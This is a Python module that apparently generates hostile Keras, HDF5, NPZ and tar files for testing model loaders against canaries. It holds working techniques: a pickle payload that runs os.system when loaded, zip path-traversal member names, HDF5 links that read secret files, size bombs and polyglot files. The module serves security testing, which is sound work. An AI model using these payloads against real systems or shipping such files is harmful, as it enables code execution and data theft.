"""Attacks by container: zip, tar, HDF5 and NumPy files that write, read or unpickle something else."""

import io
import json
import os
import pickle
import tarfile
import warnings
import zipfile
from pathlib import Path
from typing import Any

import h5py
import numpy as np
from attacks import Attack, Canary, empty_hdf5, hdf5_file, keras_file
from attacks_keras3 import layer as layer3
from attacks_keras3 import sequential as sequential3
from attacks_tf_keras import layer as layer2
from attacks_tf_keras import sequential as sequential2

# The name of each member, made from the path of the canary's file.
OUTSIDE = {
    "parents": lambda path: "assets/" + "../" * 20 + str(path).lstrip("/"),
    "absolute": str,
    "backslashes": lambda path: "assets\\" + "..\\" * 20 + str(path).lstrip("/").replace("/", "\\"),
    "middle": lambda path: "assets/a/.." + "/.." * 20 + str(path),
}


class Pickled:
    """Run a command when unpickled."""

    def __init__(self, canary: Canary) -> None:
        self._command = canary.shell

    def __reduce__(self) -> Any:
        return os.system, (self._command,)


def object_array(canary: Canary) -> np.ndarray:
    array = np.empty((1,), object)
    array[0] = Pickled(canary)
    return array


def npy(array: np.ndarray) -> bytes:
    memory = io.BytesIO()
    np.save(memory, array, allow_pickle=True)
    return memory.getvalue()


def npz(path: Path | io.BytesIO, **arrays: np.ndarray) -> None:
    np.savez(path, allow_pickle=True, **arrays)


def dense(kind: str) -> Any:
    sequential, layer = (sequential3, layer3) if kind == "keras3" else (sequential2, layer2)
    return sequential(".keras", layer(".keras", "Dense", {"units": 4}))


def harmless(kind: str, form: str = ".keras") -> Any:
    sequential, layer = (sequential3, layer3) if kind == "keras3" else (sequential2, layer2)
    return sequential(form, layer(form, "Flatten", {}))


def pickled_weights(kind: str) -> Any:
    def build(path: Path, canary: Canary) -> None:
        memory = io.BytesIO()
        npz(memory, __root__=object_array(canary), **{"layers/dense": object_array(canary)})
        keras_file(path, dense(kind), kind, {"model.weights.npz": memory.getvalue()})

    return build


def bomb_in_npz(path: Path, canary: Canary) -> None:
    """A header that claims 2**42 numbers, without any."""
    memory = io.BytesIO()
    np.lib.format.write_array_header_1_0(memory, {"descr": "<f4", "fortran_order": False, "shape": (2**42,)})
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w") as archive:
        archive.writestr("layers/dense.npy", memory.getvalue())
    keras_file(path, dense("keras3"), "keras3", {"model.weights.npz": whole.getvalue()})


def outside(kind: str, where: str) -> Any:
    def build(path: Path, canary: Canary) -> None:
        keras_file(path, harmless(kind), kind, {OUTSIDE[where](canary.ran): b"x", "assets/other": b"x"})

    return build


def weights(change: Any, in_keras: bool, kind: str) -> Any:
    """A file whose HDF5 part `change` has modified, given the open file and the canary."""

    def build(path: Path, canary: Canary) -> None:
        if not in_keras:
            hdf5_file(path, harmless(kind, ".h5"), kind)
            with h5py.File(path, "a") as file:
                change(file, canary)
            return
        memory = io.BytesIO(empty_hdf5())
        with h5py.File(memory, "a") as file:
            change(file, canary)
        keras_file(path, harmless(kind), kind, {"model.weights.h5": memory.getvalue()})

    return build


def external_link(file: Any, canary: Canary) -> None:
    file["layers"] = h5py.ExternalLink(str(canary.secret), "/")


def external_storage(file: Any, canary: Canary) -> None:
    file.create_dataset("kernel", (10,), "u1", external=[(str(canary.secret), 0, 10)])


def virtual(file: Any, canary: Canary) -> None:
    layout = h5py.VirtualLayout((10,), "f4")
    layout[:] = h5py.VirtualSource(str(canary.secret), "x", shape=(10,))
    file.create_virtual_dataset("kernel", layout)


def huge(file: Any, canary: Canary) -> None:
    file.create_dataset("kernel", (2**40,), "f4", chunks=(2**20,), compression="gzip")


def two_in_one(path: Path, canary: Canary) -> None:
    """HDF5 at the head and a zip archive at the tail: readers disagree about which of the two the file is."""
    hdf5_file(path, harmless("tf_keras", ".h5"), "tf_keras")
    inner = path.with_name("inner.keras")
    keras_file(inner, dense("tf_keras"), "tf_keras", {OUTSIDE["parents"](canary.ran): b"x"})
    path.write_bytes(path.read_bytes() + inner.read_bytes())


def two_configs(path: Path, canary: Canary) -> None:
    """Two members called `config.json`."""
    from attacks_keras3 import bytecode, lambda_layer

    keras_file(path, harmless("keras3"), "keras3")
    with zipfile.ZipFile(path, "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        archive.writestr("config.json", json.dumps(sequential3(".keras", lambda_layer(".keras", bytecode(canary)))))


def found() -> list[Attack]:
    made = [
        Attack(f"zip_{where}", kind, ".keras", outside(kind, where), "")
        for kind in ("keras3", "tf_keras") for where in OUTSIDE
    ]  # fmt: skip
    made += [Attack("pickled_weights", kind, ".keras", pickled_weights(kind), "") for kind in ("keras3", "tf_keras")]
    for change in (external_link, external_storage, virtual, huge):
        for kind in ("keras3", "tf_keras"):
            for form in (".keras", ".h5"):
                build = weights(change, form == ".keras", kind)
                made.append(Attack(f"hdf5_{change.__name__}", kind, form, build, ""))
    return [
        *made,
        Attack("npz_bomb", "keras3", ".keras", bomb_in_npz, ""),
        Attack("hdf5_head_and_zip_tail", "tf_keras", ".h5", two_in_one, ""),
        Attack("two_configs", "keras3", ".keras", two_configs, "ran"),
        Attack("saved_model_in_assets", "keras3", ".keras", saved_model_in_assets, ""),
    ]


def saved_model_in_assets(path: Path, canary: Canary) -> None:
    """A `.keras` file with tfopt's SavedModel layer, whose copy of it writes a file when loaded."""
    import tensorflow as tf
    from attacks_saved_model import on_load, saved

    import tfopt

    harmless = canary.folder / "harmless"
    saved(harmless, lambda x: tf.signal.fft(tf.cast(x, tf.complex64)))
    on_load(canary.folder / "evil", canary)
    inner = path.with_name("inner.keras")
    tfopt.transfer.hub_layer(harmless, trainable=False).save(inner)
    with zipfile.ZipFile(inner) as archive, zipfile.ZipFile(path, "w") as changed:
        for name in archive.namelist():
            relative = name.partition("/saved_model_layer/")[2]
            evil = canary.folder / "evil" / relative if relative else None  # only this layer has assets
            changed.writestr(name, evil.read_bytes() if evil and evil.is_file() else archive.read(name))


def tar(path: Path, members: dict[str, bytes], **more: tarfile.TarInfo) -> None:
    with tarfile.open(path, "w:gz") as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
        for name, info in more.items():
            info.name = name
            archive.addfile(info)


def link(target: str, kind: bytes) -> tarfile.TarInfo:
    info = tarfile.TarInfo()
    info.type, info.linkname = kind, target
    return info


def pickle_of(canary: Canary) -> bytes:
    return pickle.dumps(Pickled(canary))


ATTACKS = found()
